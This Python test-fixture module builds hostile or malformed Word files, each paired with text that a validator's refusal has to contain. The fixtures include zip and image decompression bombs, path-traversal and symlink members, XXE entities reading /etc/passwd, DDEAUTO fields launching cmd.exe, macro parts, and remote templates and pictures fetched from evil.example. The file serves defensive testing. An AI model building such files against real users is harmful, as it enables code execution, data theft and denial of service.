"""Word files that somebody could send to do harm, or by mistake: each with words that its refusal must hold."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from functools import cache
from typing import TYPE_CHECKING

from documents.letterheads import W, anchored, plain, png, replaced, rezipped, with_logo

if TYPE_CHECKING:
    from collections.abc import Callable

    Make = Callable[[], bytes]

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "[Content_Types].xml"
_MAIN = "word/document.xml"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def related(kind: str, target: str, part: str = "document", *, outside: bool = True) -> bytes:
    """A letterhead one of whose parts points somewhere."""
    mode = ' TargetMode="External"' if outside else ""
    xml = f'<Relationship Id="rIdX" Type="{_REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    name = f"word/_rels/{part}.xml.rels"
    with zipfile.ZipFile(io.BytesIO(plain())) as package:
        is_there = name in package.namelist()
    if is_there:
        return replaced(plain(), name, "</Relationships>", xml)
    whole = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{xml}'
    return rezipped(plain(), {name: whole.encode()})


def in_body(xml: str) -> bytes:
    """A letterhead with this in its text."""
    return replaced(plain(), _MAIN, "<w:sectPr", f"{xml}<w:sectPr")


def in_header(xml: str) -> bytes:
    """A letterhead with this in its header."""
    return replaced(plain(), "word/header1.xml", "</w:hdr>", f"{xml}</w:hdr>")


def field(*pieces: str) -> str:
    """A paragraph with a field whose instruction is cut into pieces."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    inner = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f"<w:p>{mark.format('begin')}{inner}{mark.format('separate')}<w:r><w:t>x</w:t></w:r>{mark.format('end')}</w:p>"
    )


def doctype(inside: str, used: str = "&x;", part: str = _MAIN) -> bytes:
    """A part that declares entities of its own."""

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        text = data.decode().replace("?>", f"?><!DOCTYPE w [{inside}]>", 1)
        return text.replace("</w:body>", f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p></w:body>").encode()

    return rezipped(plain(), change)


@cache
def bomb() -> bytes:
    """60 MB of spaces in one part, 60 KB packed."""
    return replaced(plain(), "word/styles.xml", "</w:styles>", " " * 60_000_000 + "</w:styles>")


@cache
def many_small() -> bytes:
    """Half a million small elements, each a little different: little packed, much as a tree."""
    rows = "".join(f"<w:x{number * 7919 % 1_000_003}/>" for number in range(450_000))
    return replaced(plain(), "word/styles.xml", "</w:styles>", f"{rows}</w:styles>")


def many_members() -> bytes:
    """Five thousand files."""
    out = io.BytesIO(plain())
    with zipfile.ZipFile(out, "a") as package:
        for number in range(5_000):
            package.writestr(f"word/x{number}.xml", b"")
    return out.getvalue()


def lying_sizes() -> bytes:
    """The directory says that a large part is small."""
    content = bytearray(bomb())
    at = content.rfind(b"word/styles.xml") - 46
    assert content[at : at + 4] == b"PK\x01\x02"
    content[at + 24 : at + 28] = struct.pack("<I", 4000)
    return bytes(content)


def overlapping() -> bytes:
    """Two names for one and the same packed part, many times over."""
    content = bytearray(plain())
    end = content.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", content[end + 10 : end + 20])
    directory = bytes(content[start : start + size])
    grown = directory * 30
    tail = bytearray(content[end:])
    tail[8:10] = tail[10:12] = struct.pack("<H", count * 30)
    tail[12:16] = struct.pack("<I", len(grown))
    return bytes(content[:start]) + grown + bytes(tail)


def renamed(old: str, new: str) -> bytes:
    """A member under another name of the same length, in both places."""
    assert len(old) == len(new)
    content = plain()
    assert content.count(old.encode()) >= 2
    return content.replace(old.encode(), new.encode())


def doubled(name: str) -> bytes:
    """A second part of one name."""
    out = io.BytesIO(plain())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, b"<x/>")
    return out.getvalue()


def locked() -> bytes:
    """Parts marked as encrypted."""
    content = bytearray(plain())
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    return bytes(content)


def linked() -> bytes:
    """A part that is a link to a file of the machine."""
    out = io.BytesIO(plain())
    with zipfile.ZipFile(out, "a") as package:
        member = zipfile.ZipInfo("word/passwd.xml")
        member.external_attr = 0o120777 << 16
        package.writestr(member, "/etc/passwd")
    return out.getvalue()


def compound(stream: str) -> bytes:
    """The first bytes of an OLE compound file with the name of a stream."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(2000)


def macro(name: str = "word/vbaProject.bin", kind: str = "application/vnd.ms-office.vbaProject") -> bytes:
    """Macros beside the text."""
    content = rezipped(plain(), {name: b"\xd0\xcf\x11\xe0"})
    return replaced(content, _TYPES, "</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')


def picture(content: bytes) -> bytes:
    """A letterhead whose logo is something else."""
    return rezipped(with_logo(), {"word/media/image1.png": content})


def wide_picture() -> bytes:
    """A picture of 30,000 by 30,000 dots in a few bytes."""
    head = struct.pack(">2I5B", 30_000, 30_000, 1, 0, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return picture(png()[:8] + chunk + png()[33:])


def bombed_picture() -> bytes:
    """A small picture whose dots unpack to thirty million bytes."""
    data = zlib.compress(bytes(30_000_000), 9)
    chunk = struct.pack(">I", len(data)) + b"IDAT" + data + struct.pack(">I", zlib.crc32(b"IDAT" + data))
    end = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    return picture(png()[:33] + chunk + end)


def utf16() -> bytes:
    """Entities in a part that is written in another way, where a search for their bytes finds nothing."""

    def change(name: str, data: bytes) -> bytes:
        if name != "word/styles.xml":
            return data
        text = data.decode().replace("UTF-8", "UTF-16").replace("?>", '?><!DOCTYPE w [<!ENTITY x "y">]>', 1)
        return text.encode("utf-16")

    return rezipped(plain(), change)


_V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_MANY_WORDS = "".join(f"<w:p><w:r><w:t>word {number * 7919 % 10_007}</w:t></w:r></w:p>" for number in range(10_000))

HOSTILE: dict[str, tuple[Make, str]] = {
    "nothing": (lambda: b"", "empty"),
    "a text": (lambda: b"Dear colleague", "no Word document"),
    "an old .doc": (lambda: compound("WordDocument"), "before 2007"),
    "a password": (lambda: compound("EncryptedPackage"), "password"),
    "locked members": (locked, "password"),
    "a PDF": (lambda: b"%PDF-1.7\n", "PDF"),
    "rich text": (lambda: b"{\\rtf1 hello}", "RTF"),
    "a web page": (lambda: b"<html><body>hello</body></html>", "web page"),
    "half a file": (lambda: plain()[:9000], "damaged"),
    "damaged in the middle": (lambda: plain()[:3000] + bytes(200) + plain()[3200:], "damaged"),
    "a plain zip": (lambda: rezipped(plain(), {_TYPES: None}), "no Word document"),
    "a spreadsheet": (
        lambda: replaced(plain(), _TYPES, "wordprocessingml.document.main", "spreadsheetml.sheet.main"),
        "no Word document",
    ),
    "a bomb": (bomb, "unpack"),
    "many small elements": (many_small, "far larger"),
    "many members": (many_members, "300 files"),
    "sizes that lie": (lying_sizes, "damaged"),
    "overlapping members": (overlapping, "300 files"),
    "a way out": (lambda: renamed("word/numbering.xml", "../../numbering.xm"), "points out"),
    "a way from the root": (lambda: renamed("word/settings.xml", "/etc/settings.xml"), "points out"),
    "an encoded way out": (lambda: renamed("word/settings.xml", "%2e%2e/ttings.xml"), "points out"),
    "a part twice": (lambda: doubled("word/STYLES.xml"), "two parts of one name"),
    "a link to a file": (linked, "points out"),
    "billion laughs": (lambda: doctype(f'<!ENTITY l0 "ha">{_LAUGHS}', "&l9;"), "DOCTYPE"),
    "an entity from a file": (lambda: doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'), "DOCTYPE"),
    "an entity from the network": (lambda: doctype('<!ENTITY x SYSTEM "http://127.0.0.1:9/x">'), "DOCTYPE"),
    "entities in another coding": (utf16, "UTF-8"),
    "an instruction": (
        lambda: replaced(plain(), "word/styles.xml", "<w:docDefaults>", "<?php evil ?><w:docDefaults>"),
        "instructions",
    ),
    "macros": (macro, "macros"),
    "macros under another name": (lambda: macro("word/media/logo.bin"), "macros"),
    "a template with macros": (
        lambda: replaced(
            plain(), _TYPES, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        ),
        "macros",
    ),
    "a remote template": (lambda: related("attachedTemplate", "http://evil.example/x.dotm", "settings"), "template"),
    "a template on a share": (lambda: related("attachedTemplate", "file:///\\\\evil\\x.dotm", "settings"), "Add-ins"),
    "a remote picture": (lambda: related("image", "http://evil.example/x.png", "header1"), "Edit Links"),
    "an object": (lambda: related("oleObject", "embeddings/oleObject1.bin", outside=False), "embedded object"),
    "a remote object": (lambda: related("oleObject", "http://evil.example/x.bin"), "embedded object"),
    "an object in the text": (
        lambda: in_body(f'<w:p><w:r><w:object {_V}><o:OLEObject Type="Embed"/></w:object></w:r></w:p>'),
        "embedded object",
    ),
    "an ActiveX control": (lambda: related("control", "activeX/activeX1.xml", outside=False), "ActiveX"),
    "a chunk": (lambda: related("aFChunk", "afchunk.htm", outside=False), "altChunk"),
    "a chunk in the text": (lambda: in_body("<w:altChunk/>"), "altChunk"),
    "a subdocument": (lambda: related("subDocument", "file:///x.docx"), "subdocument"),
    "a mail merge": (lambda: related("mailMergeSource", "file:///x.csv", "settings"), "mail merge"),
    "a frame": (lambda: related("frame", "http://evil.example/x", "webSettings"), "altChunk"),
    "a link to a share": (lambda: related("hyperlink", "file:///\\\\evil\\share"), "Remove Hyperlink"),
    "a link to a script": (lambda: related("hyperlink", "javascript:alert(1)"), "Remove Hyperlink"),
    "DDE": (lambda: in_body(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")), "DDEAUTO"),
    "DDE in pieces": (lambda: in_header(field(" DD", "EAU", "TO cmd")), "DDEAUTO"),
    "DDE in a simple field": (lambda: in_header('<w:p><w:fldSimple w:instr=" dde cmd "/></w:p>'), "DDE"),
    "a field in a field": (
        lambda: in_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field("QUOTE 68 68 69")[5:-6]
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "QUOTE",
    ),
    "an included picture": (lambda: in_header(field('INCLUDEPICTURE "http://evil.example/x.png"')), "INCLUDEPICTURE"),
    "a field without end": (lambda: in_header('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'), "do not end"),
    "a script in a drawing": (
        lambda: in_header(f'<w:p><w:r><w:pict {_V}><v:shape onclick="x()"/></w:pict></w:r></w:p>'),
        "script",
    ),
    "a remote VML picture": (
        lambda: in_header(f'<w:p><w:r><w:pict {_V}><v:imagedata src="http://evil.example/x.png"/></w:pict></w:r></w:p>'),
        "Edit Links",
    ),
    "a program as a picture": (
        lambda: replaced(
            rezipped(with_logo(), {"word/media/image1.png": b"MZ" * 100}), _TYPES, "image/png", "application/x-msdownload"
        ),
        "embedded object",
    ),
    "a program beside the text": (lambda: rezipped(plain(), {"word/setup.exe": b"MZ"}), "no place"),
    "a huge picture": (wide_picture, "dots"),
    "a picture that is a bomb": (bombed_picture, "damaged"),
    "a large picture": (lambda: picture(png() + random.Random(1).randbytes(2_000_000)), "KiB"),
    "a damaged picture": (lambda: picture(png()[:-20]), "damaged"),
    "styles that are no styles": (
        lambda: replaced(plain(), _TYPES, "wordprocessingml.styles+xml", "wordprocessingml.comments+xml"),
        "something else",
    ),
    "entities in custom XML": (
        lambda: rezipped(plain(), {"customXml/item9.xml": b'<!DOCTYPE x [<!ENTITY y "z">]><x/>'}),
        "DOCTYPE",
    ),
    "strict Open XML": (
        lambda: replaced(plain(), "_rels/.rels", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                         "officeDocument", "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"),
        "Strict",
    ),
    "a header of ten thousand words": (lambda: in_header(_MANY_WORDS), "header"),
    "tables in tables": (
        lambda: in_header("<w:tbl><w:tr><w:tc>" * 40 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 40), "too deep"
    ),
    "a page without room": (
        lambda: replaced(plain(), _MAIN, 'w:left="1800"', 'w:left="9000"'),
        "too little room",
    ),
}  # fmt: skip

# What is no danger and must not stop anybody: left out, or kept.
HARMLESS: dict[str, Make] = {
    "a web link in the text": lambda: related("hyperlink", "https://www.example.org/"),
    "fields of a letter": lambda: in_body(field("MERGEFIELD Name") + field("DATE \\@ dd")),
    "date and page in the header": lambda: in_header(field("DATE") + field("PAGE \\* MERGEFORMAT")),
    "custom XML of a shared library": lambda: rezipped(
        plain(), {"customXml/item9.xml": b'<?xml version="1.0"?><?mso-contentType?><x/>'}
    ),
    "drawings": anchored,
    "hidden words": lambda: in_header(
        f'<w:p xmlns:w="{W}"><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden words</w:t></w:r></w:p>'
    ),
}
